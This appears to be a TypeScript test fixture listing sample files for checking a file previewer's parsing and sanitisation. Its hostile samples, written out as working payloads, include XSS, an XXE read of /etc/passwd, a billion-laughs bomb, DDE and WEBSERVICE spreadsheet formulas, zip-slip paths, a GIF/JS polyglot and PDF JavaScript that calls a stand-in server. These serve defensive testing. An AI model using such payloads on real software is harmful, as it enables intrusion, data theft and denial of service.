import { openDocumentFile, paragraph, pdfFile, sheetFile, slidesFile, wordFile, zipOf } from './officeFiles.ts'
import { compoundFile, msgProperties, msgTexts } from './outlookFiles.ts'

/** A file that is honest, lies or would do harm, and what of it is shown. */
export interface TriedFile {
  readonly name: string
  readonly content: () => Buffer | string | Promise<Buffer>
  readonly kind: 'picture' | 'pdf' | 'audio' | 'video' | 'blocks' | 'none'
  /** Texts that are shown. */
  readonly shows?: readonly string[]
  /** What is not among what is answered. */
  readonly hides?: readonly string[]
  /** Pixels of a picture that a browser can draw, turned by the file's orientation; without it, it has only the head of one. */
  readonly pixels?: readonly [width: number, height: number]
}

const bytes = (...parts: readonly (string | number[])[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))))
const base64 = (text: string) => Buffer.from(text, 'base64')
/** A ZIP file whose names lead out of the folder that it is unpacked in. */
const outOfItself = async (entries: Readonly<Record<string, string>>) =>
  Buffer.from((await zipOf(entries)).toString('latin1').replaceAll('xx/xx/', '../../'), 'latin1')
const relation = (target: string) =>
  `<Relationships><Relationship Id="rId1" Type="attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`
const entity = (system: string) =>
  `<!DOCTYPE a [<!ENTITY x SYSTEM "${system}">]><w:document><w:p><w:t>&x;</w:t></w:p></w:document>`
const laughs = `<!DOCTYPE a [<!ENTITY a "ha">${Array.from({ length: 20 }, (_, at) => `<!ENTITY a${at} "${`&a${at - 1 < 0 ? '' : at - 1};`.repeat(10)}">`).join('')}]><w:document><w:p><w:t>&a19;</w:t></w:p></w:document>`
const OLD_OFFICE = () => compoundFile({ WordDocument: Buffer.alloc(6_000), Macros: { VBA: Buffer.from('AutoOpen') } })

/**
 * What each file shows, by its bytes and not by its name.
 * @param away the address of a server that none of them may reach
 */
export const triedFiles = (away: string): readonly TriedFile[] => [
  // Honest ones.
  { name: 'a.png', content: () => bytes([0x89], 'PNG\r\n\x1a\n', [0, 0, 0, 13], 'IHDR', [0, 0, 0, 2, 0, 0, 0, 1, 8, 2, 0, 0, 0]), kind: 'picture' },
  { name: 'a.gif', content: () => bytes('GIF89a', [2, 0, 1, 0, 0, 0, 0]), kind: 'picture' },
  { name: 'a.pdf', content: () => pdfFile(['Budget']), kind: 'pdf' },
  { name: 'a.mp3', content: () => 'ID3 and more', kind: 'audio' },
  { name: 'a.webm', content: () => bytes([0x1a, 0x45, 0xdf, 0xa3], 'webm'), kind: 'video' },
  { name: '合同.docx', content: () => wordFile(paragraph('第一条')), kind: 'blocks', shows: ['第一条'] },
  { name: '预算.xlsx', content: () => sheetFile('预算', ['张伟'], '<row><c r="A1" t="s"><v>0</v></c></row>'), kind: 'blocks', shows: ['张伟', '预算'] },
  { name: '路线.pptx', content: () => slidesFile(['里程碑']), kind: 'blocks', shows: ['里程碑'] },
  { name: '稿.odt', content: () => openDocumentFile('<text:p>正文</text:p>'), kind: 'blocks', shows: ['正文'] },
  { name: '国标.txt', content: () => Buffer.from([0xd6, 0xd0, 0xce, 0xc4]), kind: 'blocks', shows: ['中文'] },
  { name: '宽.txt', content: () => Buffer.from('\ufeff宽字符', 'utf16le'), kind: 'blocks', shows: ['宽字符'] },
  { name: 'a.md', content: () => '# 标题', kind: 'blocks', shows: ['标题'] },
  { name: 'a.csv', content: () => '姓名,数\n张伟,1', kind: 'blocks', shows: ['张伟'] },
  { name: 'a.eml', content: () => 'From: a@x.example\r\nSubject: hello\r\n\r\ntext', kind: 'blocks', shows: ['hello', 'text'] },
  { name: 'a.ics', content: () => 'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:评审\r\nEND:VEVENT\r\nEND:VCALENDAR', kind: 'blocks', shows: ['评审'] },
  { name: 'a.vcf', content: () => 'BEGIN:VCARD\r\nFN:张伟\r\nEND:VCARD', kind: 'blocks', shows: ['张伟'] },
  { name: 'a.zip', content: () => zipOf({ '报告/一.txt': 'abc' }), kind: 'blocks', shows: ['报告/一.txt'] },
  {
    name: 'a.msg',
    content: () => compoundFile({ '__properties_version1.0': msgProperties(32, []), ...msgTexts({ '0037': '纪要' }) }),
    kind: 'blocks',
    shows: ['纪要'],
  },
  { name: 'source.ts', content: () => 'if (a < b) {}', kind: 'blocks', shows: ['if (a < b) {}'] },
  // A name that lies.
  { name: '图.png', content: () => '<script>alert(1)</script>页', kind: 'blocks' },
  { name: 'a.pdf', content: () => '<html><body onload=alert(1)>正文</body></html>', kind: 'blocks' },
  { name: 'a.txt', content: () => bytes('GIF89a', [2, 0, 1, 0, 0, 0, 0]), kind: 'picture' },
  { name: 'a.docx', content: () => pdfFile(['Budget']), kind: 'pdf' },
  { name: 'a.docx', content: () => 'MZ\x90\0 program', kind: 'none' },
  // What would act, or call out.
  { name: 'a.html', content: () => `<p>正文</p><script src="${away}/s.js"></script><img src="${away}/i.png" onerror="alert(1)">`, kind: 'blocks', shows: ['正文'], hides: ['<script', 'onerror', 'i.png'] },
  { name: 'a.svg', content: () => `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${away}/svg')"><text>字</text></svg>`, kind: 'blocks' },
  { name: 'a.md', content: () => `![图](${away}/md.png) <img src="${away}/md2.png">`, kind: 'blocks' },
  { name: 'template.docx', content: () => wordFile(paragraph('正文'), { 'word/_rels/settings.xml.rels': relation(`${away}/t.dotm`), 'word/_rels/document.xml.rels': relation(`${away}/d`) }), kind: 'blocks', shows: ['正文'], hides: ['t.dotm'] },
  { name: 'entity.docx', content: () => zipOf({ 'word/document.xml': entity('file:///etc/passwd') }), kind: 'blocks', hides: ['root:'] },
  { name: 'called.docx', content: () => zipOf({ 'word/document.xml': entity(`${away}/xxe`) }), kind: 'blocks', hides: ['xxe"'] },
  { name: 'laughs.docx', content: () => zipOf({ 'word/document.xml': laughs }), kind: 'blocks', hides: ['haha'] },
  { name: 'macro.docm', content: () => wordFile(paragraph('正文'), { 'word/vbaProject.bin': 'AutoOpen' }), kind: 'blocks', shows: ['正文'], hides: ['AutoOpen'] },
  { name: 'formula.xlsx', content: () => sheetFile('a', [], `<row><c r="A1" t="str"><f>WEBSERVICE("${away}/f")</f><v>合计</v></c></row>`), kind: 'blocks', shows: ['合计'], hides: ['WEBSERVICE'] },
  {
    name: 'outside.xlsx',
    content: () =>
      zipOf({
        'xl/workbook.xml': '<workbook xmlns:r="r"><sheets><sheet name="a" r:id="rId1"/></sheets></workbook>',
        'xl/_rels/workbook.xml.rels': relation(`${away}/sheet.xml`),
      }),
    kind: 'none',
  },
  { name: 'formula.csv', content: () => '=HYPERLINK("http://x.example"),+1', kind: 'blocks', shows: ['=HYPERLINK("http://x.example")'] },
  { name: 'a.eml', content: () => `From: a@x.example\r\nSubject: hi\r\nContent-Type: text/html\r\n\r\n<p>正文</p><img src="${away}/mail.png"><script>1</script>`, kind: 'blocks', hides: ['<img', '<script'] },
  // Too large, too deep, damaged.
  { name: 'huge.gif', content: () => bytes('GIF89a', [0xff, 0xff, 0xff, 0xff, 0, 0, 0]), kind: 'none' },
  { name: 'huge.png', content: () => bytes([0x89], 'PNG\r\n\x1a\n', [0, 0, 0, 13], 'IHDR', [0, 1, 0, 0, 0, 1, 0, 0, 8, 2, 0, 0, 0]), kind: 'none' },
  { name: 'cut.gif', content: () => 'GIF89a', kind: 'none' },
  { name: 'deep.docx', content: () => wordFile(`${'<w:p>'.repeat(5_000)}${'</w:p>'.repeat(5_000)}`), kind: 'blocks', hides: ['<w:p>'] },
  { name: 'bomb.docx', content: () => zipOf({ 'word/document.xml': ' '.repeat(70 * 1_024 * 1_024) }), kind: 'blocks' },
  { name: 'long.docx', content: () => wordFile(paragraph('很长的一段话').repeat(60_000)), kind: 'blocks', shows: ['很长的一段话'] },
  { name: 'cut.docx', content: async () => (await wordFile(paragraph('正文'))).subarray(0, 120), kind: 'none' },
  { name: 'cut.pdf', content: () => '%PDF-1.7 and no more', kind: 'pdf' },
  { name: 'nothing.zip', content: () => 'PK\x03\x04', kind: 'none' },
  { name: 'slip.zip', content: () => zipOf({ 'a/b.txt': 'x' }), kind: 'blocks', shows: ['a/b.txt'] },
  { name: 'old.doc', content: OLD_OFFICE, kind: 'none', hides: ['AutoOpen'] },
  { name: 'old.xls', content: () => compoundFile({ Workbook: Buffer.alloc(6_000) }), kind: 'none' },
  { name: 'old.ppt', content: () => compoundFile({ 'PowerPoint Document': Buffer.alloc(6_000) }), kind: 'none' },
  { name: 'encrypted.docx', content: () => compoundFile({ EncryptionInfo: Buffer.alloc(100), EncryptedPackage: Buffer.alloc(6_000) }), kind: 'none' },
  { name: 'damaged.msg', content: () => compoundFile({ '__properties_version1.0': Buffer.alloc(3) }).subarray(0, 700), kind: 'none' },
  { name: 'winmail.dat', content: () => bytes([0x78, 0x9f, 0x3e, 0x22, 1, 0, 1, 3, 0x90, 6, 0, 0xff, 0xff, 0xff, 0x7f]), kind: 'none' },
  { name: 'a.bin', content: () => bytes([0, 1, 2, 3]), kind: 'none' },
  { name: 'a.exe', content: () => bytes('MZ', [0x90, 0, 3]), kind: 'none' },
  // Pictures that a browser draws.
  { name: 'dot.png', content: () => base64('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='), kind: 'picture', pixels: [1, 1] },
  { name: 'dot.gif', content: () => base64('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'), kind: 'picture', pixels: [1, 1] },
  { name: 'dot.webp', content: () => base64('UklGRiIAAABXRUJQVlA4IBYAAAAwAQCdASoBAAEADsD+JaQAA3AAAAAA'), kind: 'picture', pixels: [1, 1] },
  { name: 'silence.wav', content: () => bytes('RIFF', [44, 0, 0, 0], 'WAVEfmt ', [16, 0, 0, 0, 1, 0, 1, 0, 0x40, 0x1f, 0, 0, 0x40, 0x1f, 0, 0, 1, 0, 8, 0], 'data', [8, 0, 0, 0, 128, 128, 128, 128, 128, 128, 128, 128]), kind: 'audio' },
  // More honest ones.
  { name: 'a.json', content: () => '{"名称":"预算","数":1}', kind: 'blocks', shows: ['预算'] },
  { name: 'a.tsv', content: () => '姓名\t数\n张伟\t2', kind: 'blocks', shows: ['张伟'] },
  { name: '国标.csv', content: () => Buffer.from([0xd0, 0xd5, 0xc3, 0xfb, 0x2c, 0xca, 0xfd]), kind: 'blocks', shows: ['姓名'] },
  // Two kinds at once.
  { name: 'script.gif', content: () => bytes('GIF89a/*', [1, 0, 0, 0, 0], '*/=1;fetch("', away, '/gif.js")'), kind: 'picture' },
  { name: 'page.pdf', content: () => `%PDF-1.4\n<html><script src="${away}/p.js"></script></html>`, kind: 'pdf' },
  { name: 'acting.pdf', content: () => Buffer.concat([pdfFile(['Budget']), Buffer.from(`\n9 0 obj << /OpenAction << /S /JavaScript /JS (app.launchURL("${away}/js")) >> >> endobj`)]), kind: 'pdf' },
  // Pages.
  { name: 'moved.html', content: () => `<meta http-equiv="refresh" content="0;url=${away}/moved"><p>转到别处</p>`, kind: 'blocks', shows: ['转到别处'] },
  { name: 'form.html', content: () => `<base href="${away}/"><form action="in"><input autofocus onfocus="this.form.submit()"><p>登录</p></form>`, kind: 'blocks', shows: ['登录'], hides: ['onfocus'] },
  { name: 'a.xhtml', content: () => `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script href="${away}/x.js"/><body>正文</body></html>`, kind: 'blocks' },
  { name: 'frame.svg', content: () => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${away}/x.png"/><foreignObject><iframe src="${away}/f"/></foreignObject></svg>`, kind: 'blocks' },
  { name: 'link.md', content: () => '[按这里](javascript:alert(1)) <javascript:alert(2)>', kind: 'blocks', shows: ['按这里'] },
  // Documents that name what lies elsewhere.
  { name: 'chunk.docx', content: () => wordFile(`${paragraph('正文')}<w:altChunk r:id="rId1"/>`, { 'word/_rels/document.xml.rels': relation(`${away}/chunk.html`) }), kind: 'blocks', shows: ['正文'], hides: ['chunk.html'] },
  { name: 'field.docx', content: () => wordFile(`<w:p><w:r><w:instrText>INCLUDEPICTURE "${away}/field.png"</w:instrText></w:r><w:r><w:t>正文</w:t></w:r></w:p>`), kind: 'blocks', shows: ['正文'], hides: ['field.png'] },
  { name: 'command.xlsx', content: () => sheetFile('a', [], `<row><c r="A1" t="str"><f>cmd|'/C calc'!A0</f><v>结果</v></c></row>`), kind: 'blocks', shows: ['结果'], hides: ['calc'] },
  { name: 'picture.odt', content: () => openDocumentFile(`<text:p>正文<draw:image xlink:href="${away}/odt.png"/></text:p>`), kind: 'blocks', shows: ['正文'], hides: ['odt.png'] },
  { name: 'photo.vcf', content: () => `BEGIN:VCARD\r\nFN:李娜\r\nPHOTO;VALUE=URI:${away}/photo.jpg\r\nEND:VCARD`, kind: 'blocks', shows: ['李娜'] },
  { name: 'attached.ics', content: () => `BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:例会\r\nATTACH:${away}/ics\r\nEND:VEVENT\r\nEND:VCALENDAR`, kind: 'blocks', shows: ['例会'] },
  { name: 'styled.eml', content: () => `From: a@x.example\r\nSubject: styled\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<style>@import "${away}/s.css"; p { background: url(${away}/b.png) }</style><p>正文</p>`, kind: 'blocks', shows: ['正文'], hides: ['s.css'] },
  { name: 'a.url', content: () => `[InternetShortcut]\r\nURL=${away}/url`, kind: 'blocks', shows: ['InternetShortcut'] },
  { name: 'up.zip', content: () => outOfItself({ 'xx/xx/etc/passwd': 'x' }), kind: 'blocks', shows: ['passwd'] },
  // Programs and archives that are not read.
  { name: 'a.wasm', content: () => bytes([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]), kind: 'none' },
  { name: 'a.7z', content: () => bytes([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), kind: 'none' },
] // biome-ignore format: a row for each file
